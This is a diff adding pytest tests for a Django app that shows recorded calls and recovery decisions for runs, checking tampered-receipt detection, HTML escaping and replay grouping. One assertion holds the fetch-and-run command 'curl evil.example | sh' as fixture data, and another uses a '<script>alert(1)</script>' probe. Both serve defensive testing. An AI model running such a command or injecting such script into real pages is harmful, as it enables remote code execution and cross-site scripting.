@@ -1,0 +1,46 @@
+"""A call's page and a run's recovery decisions."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from django.urls import reverse
+
+from receipts.models import Call
+from tests.helpers import content, first_call_of
+
+pytestmark = pytest.mark.django_db
+
+
+def test_call_page_spells_out_the_identity_check(logged_in, demo):
+    call = first_call_of("tampered-receipt")
+    page = content(logged_in.get(reverse("call", args=["tampered-receipt", call.call_id])))
+    assert call.declared_call_id in page and call.recomputed_call_id in page
+    assert "mismatch: the receipt was altered" in page
+    assert "curl evil.example | sh" in page  # args shown, escaped
+    assert 'badge-warn">confirm' in page, "a tampered receipt is never reused"
+
+
+def test_call_page_escapes_hostile_args(logged_in, demo):
+    call = first_call_of("clean-run")
+    Call.objects.filter(pk=call.pk).update(args={"x": "<script>alert(1)</script>"})
+    page = content(logged_in.get(reverse("call", args=["clean-run", call.call_id])))
+    assert "<script>alert(1)</script>" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_replay_page_groups_decisions_with_counts(logged_in, demo):
+    page = content(logged_in.get("/runs/send-message-killed/replay/"))
+    assert "all 1" in page and "a person must decide" in page
+    document = json.loads(content(logged_in.get("/runs/send-message-killed/replay/?format=json")))
+    assert [row[3] for row in document["rows"]] == ["confirm"]
+
+
+def test_replay_puts_a_persons_decisions_first_and_filters(logged_in, demo):
+    last = Call.objects.filter(run__run_id="clean-run").order_by("-call_id").first()
+    Call.objects.filter(pk=last.pk).update(decision="confirm", decision_reason="made up for the test")
+    page = content(logged_in.get("/runs/clean-run/replay/"))
+    assert page.index('badge-warn">confirm') < page.index('badge-ok">reuse')
+    only = content(logged_in.get("/runs/clean-run/replay/?decision=reuse"))
+    assert "made up for the test" not in only and "all 3" in only
